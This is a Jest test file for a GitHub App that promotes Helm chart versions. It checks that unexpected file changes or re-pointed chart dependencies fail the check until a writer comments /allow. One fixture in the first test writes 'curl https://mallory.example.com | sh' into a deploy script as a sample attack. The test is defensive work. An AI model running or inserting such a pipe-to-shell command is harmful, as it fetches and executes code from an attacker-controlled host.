// A person with write access who pushes onto the App's own pull request, or re-points a dependency: the check says so and
// does not call it good to merge, until somebody who may write says that it is meant.

import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { beforeEach, expect, test } from "@jest/globals";
import { CONFIG_REPOSITORY } from "../../../src/sandbox/test-bed.ts";
import { checkOn, pass, reactionsTo, testBed } from "../../stories/setting.ts";
import { BRANCH, ELSEWHERE, proposedBesideMallory } from "../proposed.ts";

beforeEach(proposedBesideMallory);

async function pushed(files: { readonly [path: string]: string }): Promise<void> {
  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files });
  await testBed.waitUntilIdle();
}

async function commented(body: string, login = "alice", number = 1): Promise<readonly string[]> {
  const id = testBed.github.as(login).comment(CONFIG_REPOSITORY, number, body);
  await testBed.waitUntilIdle();
  return reactionsTo(id);
}

test("files that no promotion changes fail the check, until they are allowed for this commit", async () => {
  await pushed({ "scripts/deploy.sh": "curl https://mallory.example.com | sh\n" });
  expect(checkOn(1).verdict).toMatch(
    /^failure: It changes files that no promotion changes: scripts\/deploy\.sh/,
  );
  expect(await commented("/allow", "bob")).toEqual(["-1"]);
  expect(checkOn(1).verdict).toMatch(/^failure: /);
  expect(await commented("/allow")).toEqual(["+1"]);
  expect(checkOn(1).verdict).toBe("success: Good to merge: xposer 1.0.1 in dev");
  expect(checkOn(1).summary).toContain("Allowed by alice for this commit");
  await testBed.restartWithoutDatabase();
  testBed.alice.label(CONFIG_REPOSITORY, 1, "later");
  await testBed.waitUntilIdle();
  expect(checkOn(1)).toMatchObject({
    verdict: "success: Good to merge: xposer 1.0.1 in dev",
    summary: expect.stringContaining("Allowed by alice"),
  });
  await pushed({ "scripts/more.sh": "true\n" });
  expect(checkOn(1).verdict).toMatch(
    /^failure: It changes files that no promotion changes: scripts\/deploy\.sh, scripts\/more\.sh/,
  );
});

test("an archive put in the place of the promotion's own fails the check", async () => {
  await pushed({ "dev/charts/xposer-1.0.1.tgz": "other bytes" });
  expect(checkOn(1).verdict).toMatch(
    /^failure: It changes files that no promotion changes: dev\/charts\/xposer-1\.0\.1\.tgz/,
  );
});

test("another environment's files fail the check of this one's promotion", async () => {
  await pushed({ "prod/requirements.yaml": "dependencies: []\n" });
  expect(checkOn(1).verdict).toMatch(
    /^failure: It changes files that no promotion changes: prod\/requirements\.yaml/,
  );
});

test("values that people set on the promotion's branch are judged, and need nobody's word", async () => {
  await pushed({ "dev/xposer.yaml": "xposer:\n  replicas: 3\n" });
  expect(checkOn(1).verdict).toBe("success: Good to merge: xposer 1.0.1 in dev");
  expect(await commented("/allow")).toEqual(["confused"]);
});

test("a dependency that comes from another repository fails the check, until that is allowed", async () => {
  await testBed.museum.upload(testBed.pack("1.0.2"));
  const requirements = `dependencies:\n  - name: xposer\n    version: 1.0.2\n    repository: ${ELSEWHERE}\n`;
  testBed.alice.push(CONFIG_REPOSITORY, {
    branch: "own",
    on: "main",
    files: { "dev/requirements.yaml": requirements },
  });
  const number = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
  await testBed.waitUntilIdle();
  expect(checkOn(number).verdict).toMatch(
    /^failure: xposer would come from https:\/\/mallory\.example\.com\/charts and no more from/,
  );
  expect(await commented("/allow", "alice", number)).toEqual(["+1"]);
  expect(checkOn(number).verdict).toBe("success: Good to merge: xposer 1.0.2 in dev");
  expect(checkOn(number).summary).toContain("Allowed by alice for this commit");
});

test("a word on one pull request is none on another of the same commit, nor once it leads to another branch", async () => {
  const config = "environments:\n  dev:\n    path: dev\n  prod:\n    path: dev\n    branch: release\n";
  const requirements = `dependencies:\n  - name: xposer\n    version: 1.0.0\n    repository: ${ELSEWHERE}\n`;
  testBed.alice.push(CONFIG_REPOSITORY, { branch: "release", on: "main", files: {} });
  testBed.alice.push(CONFIG_REPOSITORY, { branch: "main", files: { ".github/chart-promoter.yml": config } });
  await testBed.waitUntilIdle();
  const files = { "dev/requirements.yaml": requirements };
  const head = testBed.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "release", files });
  const first = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "To dev" });
  await testBed.waitUntilIdle();
  expect(await commented("/allow", "alice", first)).toEqual(["+1"]);
  expect(checkOn(first).verdict).toMatch(/^success: /);

  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: "same", to: head });
  const second = testBed.alice.openPullRequest(CONFIG_REPOSITORY, {
    ...{ head: "same", base: "release", title: "To prod" },
  });
  await testBed.waitUntilIdle();
  expect(checkOn(second).verdict).toMatch(/^failure: xposer would come from/);
  expect(checkOn(second).summary).not.toContain("Allowed by");

  testBed.alice.close(CONFIG_REPOSITORY, second);
  testBed.alice.label(CONFIG_REPOSITORY, first, "later");
  await testBed.waitUntilIdle();
  expect(checkOn(first).verdict).toMatch(/^success: /);
  expect(checkOn(first).summary).toContain("Allowed by alice");

  testBed.alice.editPullRequest(CONFIG_REPOSITORY, first, { base: "release" });
  await testBed.waitUntilIdle();
  expect(checkOn(first).verdict).toMatch(/^failure: xposer would come from/);
  expect(await commented("/allow", "alice", first)).toEqual(["+1"]);
  expect(checkOn(first).verdict).toMatch(/^success: /);
});

test("pushes past every pull request, with first lines of 60 kB, leave little on record", async () => {
  for (let n = 0; n < 30; n++) {
    const message = `${n} ${"x".repeat(60_000)}`;
    testBed.alice.push(CONFIG_REPOSITORY, { branch: "main", message, files: { "dev/notes": `${n}\n` } });
  }
  await pass(10_000);
  const database = new DatabaseSync(join(testBed.settings.dataFolder, "chart-promoter.sqlite"), {
    readOnly: true,
  });
  const kept = database.prepare("select repository_index as text from repositories").get();
  database.close();
  expect(String(kept?.["text"])).toContain("directPushes");
  expect(String(kept?.["text"]).length).toBeLessThan(50_000);
}, 60_000);
